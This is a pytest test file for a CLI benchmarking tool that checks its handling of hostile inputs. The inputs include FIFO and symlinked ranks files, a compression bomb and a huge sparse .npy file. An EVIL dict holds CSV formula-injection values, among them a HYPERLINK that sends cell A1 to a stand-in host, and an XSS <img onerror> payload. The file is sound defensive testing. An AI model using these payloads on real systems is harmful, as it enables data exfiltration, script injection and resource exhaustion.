"""Hostile input, round three (issue 25 items 2-6): ranks files bounded before they are read, numeric flags with
ranges, inert CSV and markdown, no silent substitution. Every case: one line on stderr, the right exit status,
no traceback, nothing stored and nothing written outside the roots (the case folder is compared whole)."""

import hashlib
import io
import json
import os
import shutil
import threading
import time
import zipfile

import numpy as np
import pytest
from test_cli_hostile import FEAT, SMALL, W, case, fitted, snapshot, unchanged  # noqa: F401 (fixtures)

from cca_bench.__main__ import main


def the_run(w) -> tuple:
    """(run JSON path, its record, its ranks file path) of the one run the fixture stored."""
    [path] = sorted((w / "results" / "runs").glob("*.json"))
    record = json.loads(path.read_text())
    return path, record, path.with_name(record["ranks_file"])


def replace_ranks(w, data: bytes | None = None, **arrays) -> None:
    """Write ``data`` (or the stored ranks with ``arrays`` replaced) as the run's ranks file and record its sha256
    in the run JSON, so that only the checks of the file's content stand in the way."""
    path, record, ranks = the_run(w)
    if data is None:
        with np.load(ranks, allow_pickle=False) as z:
            members = {k: z[k] for k in z.files} | arrays
        buf = io.BytesIO()
        np.savez(buf, **members)
        data = buf.getvalue()
    ranks.write_bytes(data)
    record["ranks_sha256"] = hashlib.sha256(data).hexdigest()
    path.write_text(json.dumps(record))


def bomb(w, n=20_000_000):
    """A deflated .npz whose image_annotation member honestly declares ``n`` int64 (160 MB for 20M) in a few
    hundred KB: the header matches the member's recorded size, so only the uncompressed bound refuses it."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<i8", "fortran_order": False, "shape": (n,)})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        with zf.open("image_annotation.npy", "w", force_zip64=True) as f:
            f.write(header.getvalue())
            block = bytes(1_000_000)
            for _ in range(8 * n // len(block)):
                f.write(block)
    replace_ranks(w, buf.getvalue())


def fifo_ranks(w):
    """The ranks file replaced by a FIFO. A writer thread feeds a reader that opens it anyway, so a regression
    fails on the message instead of hanging the suite; with no reader the thread gives up after 10 s."""
    _, _, ranks = the_run(w)
    ranks.unlink()
    os.mkfifo(ranks)

    def write_if_read():
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            try:
                fd = os.open(ranks, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:  # ENXIO: nobody reads it
                time.sleep(0.05)
                continue
            os.write(fd, b"not a ranks file")
            os.close(fd)
            return

    threading.Thread(target=write_if_read, daemon=True).start()


def link_ranks(w, target):
    _, _, ranks = the_run(w)
    ranks.unlink()
    os.symlink(target, ranks)


def outside_copy(w):
    """The ranks file moved outside the runs folder, a symlink left in its place."""
    _, _, ranks = the_run(w)
    os.rename(ranks, w / "outside.npz")
    os.symlink(w / "outside.npz", ranks)


SIG = ["significance", "{run}", "{run}"]

RANKS_CASES = [
    # (name, set-up, expected message) -- significance of the run against itself, and compare --significance
    ("ranks file is a FIFO", fifo_ranks, "is not a regular file (a FIFO, device or folder)"),
    ("ranks file links to /dev/zero", lambda w: link_ranks(w, "/dev/zero"), "leaves"),
    ("ranks file links outside the runs folder", outside_copy, "leaves"),
    ("compressed member declaring 160 MB", bomb, "claim 160000128 bytes uncompressed"),
    ("0-d image_index", lambda w: replace_ranks(w, image_index=np.array(3)), "inconsistent rank arrays"),
    ("fold numbers with a gap", lambda w: replace_ranks(w, fold=np.repeat([0, 2], 10)), "without a gap"),
]


@pytest.mark.parametrize("name, setup, message", RANKS_CASES, ids=[c[0] for c in RANKS_CASES])
def test_hostile_ranks_file(name, setup, message, case, capsys):
    """significance: one line naming the ranks file, exit 2; compare --significance: the run takes no part in the
    marks and the command still answers. Planted bugs: results.load_ranks reading with ``path.read_bytes()``
    (FIFO: the writer thread's bytes then fail on the sha256, not "not a regular file"; /dev/zero: not run
    planted, it reads ~1 GB), no link check in fsio.read_regular (the outside copy is read and accepted),
    read_npz without the uncompressed total (numpy allocated 160 MB and failed later on another message),
    query_ranks checking ``len(image_index)`` before its ndim (TypeError traceback) and fold only for
    monotonicity (the gap passed)."""
    w, roots = case
    setup(w)
    run = str(the_run(w)[0])
    before = snapshot(w)
    capsys.readouterr()
    rc = main(["significance", run, run, *roots])
    err = capsys.readouterr().err.strip().splitlines()
    assert rc == 2 and len(err) == 1 and err[0].startswith("error: ") and message in err[0], err
    assert "ranks" in err[0]
    assert main(["compare", "--significance", "-q", *roots]) == 0
    after = snapshot(w)
    assert unchanged(
        {k: v for k, v in before.items() if not k.startswith("results/RESULTS")},
        {k: v for k, v in after.items() if not k.startswith("results/RESULTS")},
    )


# ------------------------------------------------------------------------------------ numeric flags have ranges
GEN = ["generate", "cca", "shapes", FEAT, *SMALL]
RUN = ["run_benchmark", "cca", "shapes", "test", FEAT, *SMALL]
SIGNIFICANCE = ["significance", "{run}", "{run}"]

FLAG_CASES = [
    ("significance --seed -1", [*SIGNIFICANCE, "--seed", "-1"], "argument --seed: must be a whole number >= 0"),
    ("significance --seed 10**29", [*SIGNIFICANCE, "--seed", str(10**29)], "<= 4294967295"),
    (
        "significance --resamples 10**9",
        [*SIGNIFICANCE, "--resamples", "1000000000"],
        "argument --resamples: must be a whole number >= 1 and <= 1000000",
    ),
    ("significance --resamples superscript two", [*SIGNIFICANCE, "--resamples", "\u00b2"], "argument --resamples"),
    ("generate asif --seed -5", ["generate", "asif", "shapes", FEAT, *SMALL, "--seed", "-5"], "argument --seed"),
    ("generate --seed 2**32", [*GEN, "--seed", str(2**32)], "<= 4294967295"),
    ("run_benchmark --seeds -1", [*RUN, "--seeds", "-1"], "argument --seeds: expected comma-separated seeds"),
    ("generate --seeds 0,2**32", [*GEN, "--seeds", f"0,{2**32}"], "argument --seeds"),
    ("run_benchmark --bootstrap 10**9", [*RUN, "--bootstrap", "1000000000"], "argument --bootstrap: must be"),
    (
        "evaluate --bootstrap 0",
        ["evaluate", "shapes", "test", "--images", "i.npy", "--texts", "t.npy", "--name", "m", "--bootstrap", "0"],
        "argument --bootstrap",
    ),
    (
        "dcca --hidden 10**9",
        ["generate", "dcca", "shapes", FEAT, *SMALL, "--hidden", "1000000000"],
        "dcca --hidden 1000000000 --layers 1 needs about",
    ),
    (
        "dcca --layers 10**8",
        ["generate", "dcca", "shapes", FEAT, *SMALL, "--layers", "100000000"],
        "argument --layers: must be a whole number >= 0 and <= 1000",
    ),
    (
        "dcca --layers 1000 --hidden 65536",
        ["generate", "dcca", "shapes", FEAT, *SMALL, "--layers", "1000", "--hidden", "65536"],
        "GiB of memory but",
    ),
    (
        "--cv-reg empty",
        [*GEN, "--cv", "--cv-reg", ""],
        "argument --cv-reg: expected comma-separated numbers without empty entries",
    ),
    ("--cv-components with an empty entry", [*GEN, "--cv", "--cv-components", "1,,8"], "without empty entries"),
    ("serve --port 70000", ["serve", "--port", "70000"], "argument --port: must be a whole number >= 0 and <= 65535"),
    ("curve --seed -1", ["curve", "cca", "shapes", FEAT, *SMALL, "--seed", "-1"], "argument --seed: must be"),
    ("similarity --seed -1", ["similarity", "shapes", FEAT, *SMALL, "--seed", "-1"], "argument --seed: must be"),
    (
        "similarity --permutations 10**9",
        ["similarity", "shapes", FEAT, *SMALL, "--permutations", "1000000000"],
        "argument --permutations: must be a whole number >= 1 and <= 1000000",
    ),
]


def run_case(w, roots, argv, capsys) -> tuple[int, list[str], bool]:
    """(exit status, stderr lines, whether the case folder is unchanged) of ``main(argv)`` in the case folder."""
    run = the_run(w)[0]
    argv = [a.replace("{run}", str(run)).replace("{runid}", run.name[: -len(".json")]).replace(W, str(w)) for a in argv]
    before = snapshot(w)
    capsys.readouterr()
    try:
        rc = main([*argv, *roots])
    except SystemExit as e:  # argparse
        rc = e.code
    err = capsys.readouterr().err.strip().splitlines()
    return rc, err, unchanged(before, snapshot(w))


@pytest.mark.parametrize("name, argv, message", FLAG_CASES, ids=[c[0] for c in FLAG_CASES])
def test_numeric_flags_have_ranges(name, argv, message, case, capsys):
    """Each flag's range (cca_bench.checks: SEED, RESAMPLES, LAYERS, PORT, and the memory of a network) is checked
    before any work. Planted bugs: ``type=int`` for --seed (the negative seed reached numpy: a traceback),
    positive_int for --resamples/--bootstrap (10^9 accepted), number_list dropping empty entries (``--cv-reg ""``
    searched the default grid). dcca without check_memory was not run planted: it allocates until the process is
    killed (the issue's RuntimeError after gigabytes)."""
    w, roots = case
    rc, err, same = run_case(w, roots, argv, capsys)
    assert rc == 2 and len(err) == 1 and err[0].startswith("error: ") and message in err[0], err
    assert same


@pytest.mark.parametrize(
    "argv", [RUN, ["significance", "{run}", "{run}", "--resamples", "1000000"]], ids=["bootstrap", "resamples"]
)
def test_resamples_are_checked_against_memory_before_the_work(argv, case, capsys, monkeypatch):
    """With 1 MiB available, 1000 bootstrap resamples of 20 images (0.3 MB) fit and 10^6 permutations do not: the
    run is refused before the features are encoded or the ranks tested. Planted bug: no check_resamples in
    benchmark.run_benchmark / cli.significance (then the run is stored / the test runs)."""
    import cca_bench.config

    w, roots = case
    monkeypatch.setattr(cca_bench.config, "available_memory", lambda: 1 << 20)
    argv = [*argv, "--bootstrap", "100000"] if argv is RUN else argv
    rc, err, same = run_case(w, roots, argv, capsys)
    assert rc == 2 and len(err) == 1 and "needs about" in err[0] and "GiB is available" in err[0], err
    assert same


# ------------------------------------------------------------------------------------------- outputs are inert
EVIL = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "html": "x | <img src=x onerror=alert(1)> | y",
    "plus": "+1+1",
    "at": "@SUM(1+1)",
    "tab": "\tcmd",
    "minus": "-2+3",
}


def shared_runs(w, names=EVIL):
    """Copies of the stored run whose ``method`` is each hostile name (a run file shared by someone else), each of
    its own model (compare shows the newest run of each configuration)."""
    path, record, _ = the_run(w)
    for key, method in names.items():
        (path.parent / f"shared_{key}.json").write_text(
            json.dumps(record | {"method": method, "model": f"shared_{key}"})
        )


def csv_rows(text: str) -> list[dict]:
    import csv

    return list(csv.DictReader(io.StringIO(text)))


def formula_cells(rows: list[dict]) -> list[str]:
    """The cells a spreadsheet would run: starting with = + - @ tab or CR and not a plain number."""
    import re

    number = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
    return [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r" and not number.fullmatch(v)]


def test_csv_outputs_are_inert(case, capsys):
    """compare --csv, RESULTS.csv and /leaderboard.csv: every hostile method name is quoted (OWASP: a leading
    single quote), numbers stay numbers (R-sum parses as a float). Planted bug: compare_csv without
    cells.csv_cell (the five names reached every CSV raw)."""
    from cca_bench.web import create_app

    w, roots = case
    shared_runs(w)
    assert main(["compare", "-q", "--csv", str(w / "out.csv"), *roots]) == 0
    client = create_app(w / "data", w / "results").test_client()
    page = client.get("/leaderboard.csv", headers={"Host": "127.0.0.1:8000"})
    assert page.status_code == 200
    for text in ((w / "out.csv").read_text(), (w / "results" / "RESULTS.csv").read_text(), page.get_data(True)):
        rows = csv_rows(text)
        methods = {r["Method"] for r in rows}
        assert {"'" + m for m in EVIL.values() if m[0] in "=+-@\t"} <= methods, methods
        assert formula_cells(rows) == []
        assert all(float(r["R-sum"]) > 0 for r in rows)


def test_markdown_cells_stay_one_cell_of_text(case, capsys):
    """RESULTS.md: a method ``x | <img src=x onerror=alert(1)> | y`` is one escaped cell (every row of the table
    has as many cells as its header) and no HTML tag reaches the file. Planted bugs: results._cell returning
    ``str(value)``, and (after the run-id merge) SPECIAL_CELLS' Method cell without md_cell: each time the row
    gained two columns and the <img> tag passed."""
    w, roots = case
    shared_runs(w, {"html": EVIL["html"]})
    assert main(["compare", "-q", *roots]) == 0
    text = (w / "results" / "RESULTS.md").read_text()
    assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text
    table = [line for line in text.splitlines() if line.startswith("|")]
    cells = [len(line.replace("\\|", "").split("|")) for line in table]
    assert len(table) >= 4 and len(set(cells)) == 1, table


# ------------------------------------------------------------------------------------------ no silent substitution
EVALUATE = ["evaluate", "shapes", "test", "--images", f"{W}/img.npy", "--texts", f"{W}/txt.npy", "--name", "m", *SMALL]


def f8_safetensors(w):
    """img.safetensors holding one F8_E4M3 tensor (torch writes it; numpy has no such dtype)."""
    import torch
    from safetensors.torch import save_file

    save_file({"x": torch.ones(20, 3).to(torch.float8_e4m3fn)}, str(w / "img.safetensors"))
    np.save(w / "txt.npy", np.ones((100, 3), np.float32))


def sparse_npy(w):
    """big.npy beside the case folder (the snapshot reads every file in it) whose header honestly claims 10^6 x 10^5
    float32: a sparse 400 GB file (its size is true)."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": (10**6, 10**5)})
    with open(w.parent / "big.npy", "wb") as f:
        f.write(header.getvalue())
        f.truncate(len(header.getvalue()) + 4 * 10**11)
    np.save(w / "txt.npy", np.ones((100, 3), np.float32))


SUBSTITUTION_CASES = [
    (
        "ridge --similarity csa",
        None,
        ["generate", "ridge", "shapes", FEAT, *SMALL, "--similarity", "csa"],
        "--similarity is not an option of ridge",
    ),
    (
        "pls --reg 0.5",
        None,
        ["generate", "pls", "shapes", FEAT, *SMALL, "--reg", "0.5"],
        "--reg is not an option of pls",
    ),
    (
        "procrustes --direction text2image",
        None,
        ["generate", "procrustes", "shapes", FEAT, *SMALL, "--direction", "text2image"],
        "--direction is not an option of procrustes",
    ),
    (
        "tag with a pipe, features not yet cached",
        None,
        ["generate", "cca", "shapes", FEAT, "-D", "n_train=61", "-q", "--tag", "a|b"],
        "--tag 'a|b' may hold only",
    ),
    ("run_benchmark tag with a pipe", None, [*RUN, "--tag", "a|b"], "--tag 'a|b' may hold only"),
    (
        "F8_E4M3 safetensors embeddings",
        f8_safetensors,
        [*EVALUATE[:4], f"{W}/img.safetensors", *EVALUATE[5:]],
        "img.safetensors: tensor 'x' is F8_E4M3, which numpy cannot read",
    ),
    (
        "significance of another folder's run path without .json",
        lambda w: shutil.copytree(w / "results" / "runs", w / "other" / "runs"),
        ["significance", f"{W}/other/runs/{{runid}}", "{runid}"],
        "no such run file",
    ),
    (
        "significance of a path through a missing folder",
        None,
        ["significance", "no/such/dir/../../{runid}", "{runid}"],
        "no such run file",
    ),
    (
        "a .npy honestly claiming 10^6 x 10^5 float32",
        sparse_npy,
        [*EVALUATE[:4], f"{W}/../big.npy", *EVALUATE[5:]],
        "big.npy: 1000000 rows but shapes/test has 20 images",
    ),
]


@pytest.mark.parametrize("name, setup, argv, message", SUBSTITUTION_CASES, ids=[c[0] for c in SUBSTITUTION_CASES])
def test_no_silent_substitution(name, setup, argv, message, case, capsys):
    """Refused in one line before any work: nothing at all is written, not even a feature-cache entry. Planted
    bugs: generate's parser without its refuser (the options were "unrecognized", not named as another method's;
    before the cli package they were dropped, exit 0), cli.common.options without check_tag (the train features
    of n_train=61 were encoded and cached before model_path refused the tag), external._safetensors_header without
    the dtype check (AttributeError traceback from safetensors' numpy reader), evaluate_embeddings reading both arrays
    before comparing their rows with the split (MemoryError traceback: numpy asked for 372 GiB). The two
    significance paths: the `truth` helper's resolve_run (its test_runrecord plants the old lookup, which tested
    RESULTS/runs/A.json instead); here through the CLI, nothing written."""
    w, roots = case
    if setup is not None:
        setup(w)
    before = snapshot(w)
    rc, err, _ = run_case(w, roots, argv, capsys)
    assert rc == 2 and len(err) == 1 and err[0].startswith("error: ") and message in err[0], err
    assert snapshot(w) == before


def test_web_opens_a_model_from_what_its_weights_record(case):
    """A `generate` killed between its two renames leaves new weights beside the previous model's .json (here:
    the copy claims another --onnx-model and model_id). The web app takes the model's options from the weights'
    own metadata, the one source the CLI's loader trusts, so both search with the same model. Planted bug:
    Library.model_config reading the .json (the stale --onnx-model reached the web app's feature options)."""
    from cca_bench.methods.base import load_arrays
    from cca_bench.web import create_app

    w, roots = case
    [js] = (w / "results" / "models").glob("*.json")
    name = js.name[: -len(".json")]
    stale = json.loads(js.read_text())
    stale |= {"model_files": {"onnx_model": str(w / "old.onnx")}, "model_id": "0" * 16}
    js.write_text(json.dumps(stale))
    library = create_app(w / "data", w / "results").config["LIBRARY"]
    config = library.model_config(name)
    _, trusted = load_arrays(js.with_name(name))  # what run_benchmark / search load (it warns about the copy)
    assert config == trusted and config["model_id"] != "0" * 16
    assert "old.onnx" not in json.dumps(config)
